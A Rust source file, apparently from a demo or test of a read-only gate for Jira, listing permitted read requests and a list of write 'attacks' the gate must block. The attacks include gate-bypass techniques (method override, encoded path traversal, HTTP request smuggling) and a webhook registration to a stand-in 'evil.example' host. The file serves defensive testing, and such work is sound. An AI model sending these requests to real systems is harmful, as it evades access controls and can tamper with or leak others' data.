//! The reads and the attacks of the tour at JIRA.
//!
//! Each attack is real: a test without a gate holds it to moving the site's count of changes.

use crate::demo::tour::jira::HttpRequest;

const fn plain(title: &'static str, line: &'static str, body: &'static str) -> HttpRequest {
    HttpRequest { title, line, headers: "", body }
}

/// Compared with what the site itself answers.
pub(super) const JIRA_READS: &[HttpRequest] = &[
    plain("what the site is", "GET /rest/api/2/serverInfo", ""),
    plain(
        "an issue with its comments and history",
        "GET /rest/api/2/issue/COMP-101?expand=changelog",
        "",
    ),
    plain("the same in version 3", "GET /rest/api/3/issue/COMP-101", ""),
    plain(
        "a search",
        "GET /rest/api/2/search?jql=project+%3D+COMP+AND+status+%3D+Open+ORDER+BY+key",
        "",
    ),
    plain(
        "a search for words that look like SQL",
        "POST /rest/api/2/search",
        r#"{"jql": "text ~ \"delete\" OR summary ~ \"update\"", "fields": ["summary", "status"]}"#,
    ),
    plain("worklogs", "GET /rest/api/2/issue/COMP-101/worklog", ""),
    plain("transitions that are possible", "GET /rest/api/2/issue/COMP-101/transitions", ""),
    plain("an attachment", "GET /secure/attachment/20003/night%2014.log", ""),
    plain("what states there are", "GET /rest/api/2/status", ""),
    plain("a board and its sprint", "GET /rest/agile/1.0/board/1/sprint", ""),
    plain("an issue that is not there", "GET /rest/api/2/issue/COMP-9999", ""),
];

/// In the order in which they are tried.
pub(super) const JIRA_ATTACKS: &[HttpRequest] = &[
    plain(
        "create an issue",
        "POST /rest/api/2/issue",
        r#"{"fields": {"project": {"key": "COMP"}, "issuetype": {"name": "Bug"}, "summary": "mine"}}"#,
    ),
    plain("add a comment", "POST /rest/api/3/issue/COMP-101/comment", r#"{"body": "was here"}"#),
    plain(
        "close an issue",
        "POST /rest/api/2/issue/COMP-101/transitions",
        r#"{"transition": {"id": "21"}}"#,
    ),
    plain("edit an issue", "PUT /rest/api/2/issue/COMP-117", r#"{"fields": {"summary": "mine"}}"#),
    plain("assign an issue", "PUT /rest/api/latest/issue/COMP-117/assignee", r#"{"name": "cem"}"#),
    plain("delete an issue", "DELETE /rest/api/2/issue/COMP-98?deleteSubtasks=true", ""),
    plain(
        "add a worklog",
        "POST /rest/api/2/issue/COMP-101/worklog",
        r#"{"timeSpentSeconds": 60}"#,
    ),
    plain(
        "link two issues",
        "POST /rest/api/2/issueLink",
        r#"{"type": {"name": "Blocks"}, "inwardIssue": {"key": "COMP-98"}, "outwardIssue": {"key": "FARM-7"}}"#,
    ),
    plain("vote", "POST /rest/api/2/issue/COMP-117/votes", ""),
    HttpRequest {
        title: "upload a file",
        line: "POST /rest/api/2/issue/COMP-101/attachments",
        headers: "X-Atlassian-Token: no-check\r\nContent-Type: multipart/form-data; boundary=b\r\n",
        body: "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a\"\r\n\r\nx\r\n--b--\r\n",
    },
    plain("delete a file", "DELETE /rest/api/2/attachment/20003", ""),
    plain(
        "delete many issues",
        "POST /rest/api/3/bulk/issues/delete",
        r#"{"selectedIssueIdsOrKeys": ["COMP-98"]}"#,
    ),
    plain(
        "register a webhook",
        "POST /rest/api/3/webhook",
        r#"{"url": "https://evil.example", "webhooks": []}"#,
    ),
    plain(
        "GraphQL",
        "POST /gateway/api/graphql",
        r#"{"query": "mutation { deleteIssue(id: 1) { success } }"}"#,
    ),
    // What looks like a read.
    plain("a GET that is written into the history", "GET /browse/COMP-101", ""),
    plain("a login by GET", "GET /rest/api/2/myself?os_username=ann&os_password=x", ""),
    plain("another method by a parameter", "POST /rest/api/2/search?_method=PUT", r#"{"jql": ""}"#),
    HttpRequest {
        title: "another method by a header, on a write's path",
        line: "GET /rest/api/2/issue/COMP-98/votes/mine",
        headers: "X-HTTP-Method-Override: DELETE\r\n",
        body: "",
    },
    plain("climbing from a search", "POST /rest/api/2/search/../issue", r#"{"fields": {}}"#),
    plain("climbing, encoded", "POST /rest/api/2/search/%2e%2e/issue", r#"{"fields": {}}"#),
    plain(
        "climbing with a path parameter",
        "POST /rest/api/2/search/..;a=b/issue",
        r#"{"fields": {}}"#,
    ),
    plain("a needless escape", "POST /rest/api/2/iss%75e", r#"{"fields": {}}"#),
    plain("slashes in pairs", "POST /rest//api/2//issue", r#"{"fields": {}}"#),
    // Two readers of one connection.
    HttpRequest {
        title: "a write behind the body of a read",
        line: "POST /rest/api/2/search",
        headers: "Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n",
        body: "b\r\n{\"jql\": \"\"}\r\n0\r\n\r\nPOST /rest/api/2/issue HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {token}\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}",
    },
];
